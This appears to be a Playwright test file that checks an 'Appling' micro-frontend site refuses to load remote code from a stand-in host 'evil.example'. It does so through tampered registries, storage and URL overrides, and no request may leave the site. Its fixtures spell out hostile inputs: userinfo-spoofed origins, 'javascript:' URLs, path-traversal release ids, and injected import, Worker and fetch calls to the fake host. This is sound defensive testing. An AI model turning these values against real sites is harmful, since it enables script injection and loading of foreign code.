import type { Page } from '@playwright/test';
import type { RemoteEntry } from '../../shared/contract/src/registry.ts';
import { addRemote } from './faults/faulty-remotes.ts';
import type { FaultServer } from './faults/fault-server.ts';
import { expect, expectOtherPagesWork, navigate, panelOf, test } from './faults/faulty-site.ts';

const SOON = { timeout: 10_000 };
const EVIL = 'https://evil.example';

/** Records every request to another host and answers it with code that leaves a trace. */
async function watchLeaks(page: Page, server: FaultServer): Promise<string[]> {
  const leaks: string[] = [];
  await page.context().route(
    (url) => !url.href.startsWith(server.origin),
    (route) => {
      leaks.push(route.request().url());
      return route.fulfill({
        contentType: 'text/javascript',
        headers: { 'Access-Control-Allow-Origin': '*' },
        body: 'globalThis.hasRun = true; export const init = () => {}; export const get = () => {};',
      });
    },
  );
  return leaks;
}

/** Ways in which a registry or a page may try to load code from another host. */
const HOSTILE: Record<string, (entry: RemoteEntry) => object> = {
  'another origin': (entry) => ({ ...entry, current: { ...entry.current, origin: EVIL } }),
  'an origin with the own one in it': (entry) => ({
    ...entry,
    current: { ...entry.current, origin: `http://localhost@evil.example` },
  }),
  'a container elsewhere': (entry) => ({
    ...entry,
    current: { ...entry.current, entry: `${EVIL}/x.js` },
  }),
  'a container by the scheme of this page': (entry) => ({
    ...entry,
    current: { ...entry.current, entry: '//evil.example/x.js' },
  }),
  'a script address': (entry) => ({
    ...entry,
    current: { ...entry.current, entry: 'javascript:hasRun=1' },
  }),
  'a release that climbs': (entry) => ({ ...entry, current: { ...entry.current, id: '../../x' } }),
  'a sheet elsewhere': (entry) => ({
    ...entry,
    current: { ...entry.current, styles: '../../../../evil.css' },
  }),
};

for (const isGuarded of [true, false]) {
  test(`a hostile registry ${isGuarded ? 'is refused' : 'is refused by the schema alone, without any policy'}: no request leaves, other pages work`, async ({
    page,
    server,
  }) => {
    test.setTimeout(300_000);
    server.limit = 1500;
    if (!isGuarded) server.without.add('Content-Security-Policy');
    const leaks = await watchLeaks(page, server);
    const well = addRemote(server, { name: 'faulty-hostile' });
    await page.goto('/about');
    for (const [name, change] of Object.entries(HOSTILE)) {
      await test.step(name, async () => {
        const { remotes } = server.registry;
        server.registry = {
          ...server.registry,
          remotes: { ...remotes, 'faulty-hostile': change(well) as RemoteEntry },
        };
        await navigate(page, '/faulty-hostile');
        await expect(panelOf(page)).toBeVisible(SOON);
      });
      await expectOtherPagesWork(page);
    }
    expect(leaks).toEqual([]);
    expect(await page.evaluate(() => 'hasRun' in globalThis)).toBe(false);
  });
}

test('the script check alone refuses another origin, without any policy', async ({
  page,
  server,
}) => {
  server.without.add('Content-Security-Policy');
  const leaks = await watchLeaks(page, server);
  await page.goto('/about');
  await page.waitForFunction(() => globalThis.APPLING_CHECK_SCRIPT);
  const codes = await page.evaluate(
    (addresses) =>
      Promise.all(
        addresses.map(async (address) => {
          try {
            await globalThis.APPLING_CHECK_SCRIPT?.(address);
            return 'allowed';
          } catch (error) {
            return (error as { code: string }).code;
          }
        }),
      ),
    [`${EVIL}/r/chat/0123456789ab/x.js`, '//evil.example/x.js', 'data:text/javascript,1'],
  );
  expect(codes).toEqual(Array(3).fill('FORBIDDEN_ORIGIN'));
  expect(leaks).toEqual([]);
});

test('the policy alone stops a release that imports, adds a script or starts a worker from another origin', async ({
  page,
  server,
  complaints,
}) => {
  complaints.expectRefusals();
  const leaks = await watchLeaks(page, server);
  const tries = `
    const tried = [];
    const note = (name) => (error) => { tried.push(name + ' ' + error.name); globalThis.tried = tried; };
    import('${EVIL}/x.js').catch(note('import'));
    try { document.createElement('script').src = '${EVIL}/x.js'; } catch (error) { note('script')(error); }
    try { new Worker('${EVIL}/x.js'); } catch (error) { note('worker')(error); }
    try { eval('1'); } catch (error) { note('eval')(error); }
    fetch('${EVIL}/x.js').catch(note('fetch'));
  `;
  addRemote(server, {
    name: 'faulty-import-elsewhere',
    page: `react.useEffect(() => { ${tries} }, []); return h('h1', null, 'Well');`,
  });
  await page.goto('/about');
  await navigate(page, '/faulty-import-elsewhere');
  await expect(page.getByRole('heading', { name: 'Well' })).toBeVisible(SOON);
  await expect
    .poll(() => page.evaluate(() => (globalThis as unknown as { tried: string[] }).tried?.length))
    .toBe(5);
  expect(leaks).toEqual([]);
  expect(await page.evaluate(() => 'hasRun' in globalThis)).toBe(false);
  // Proves that counting reports works in the other tests.
  for (const directive of ['script-src', 'require-trusted-types-for', 'connect-src']) {
    expect(complaints.refused.join('\n')).toContain(directive);
  }
});

test('storage that names another origin changes nothing', async ({ page, server }) => {
  const leaks = await watchLeaks(page, server);
  await page.goto('/robots.txt');
  await page.evaluate((evil) => {
    for (const storage of [localStorage, sessionStorage]) {
      for (const key of ['override', 'registry', 'broken-releases', 'remotes', 'release']) {
        storage.setItem(`appling:${key}`, JSON.stringify([`chat@${evil}`, `company@${evil}`]));
      }
      storage.setItem('__FEDERATION__', JSON.stringify({ company: `${evil}/remoteEntry.js` }));
    }
  }, EVIL);
  await page.goto(`/pricing?override=company@${EVIL}&remote=${EVIL}`);
  await page.getByRole('banner').getByRole('link', { name: 'About' }).click();
  await expect(page).toHaveTitle('About · Appling');
  expect(leaks).toEqual([]);
});
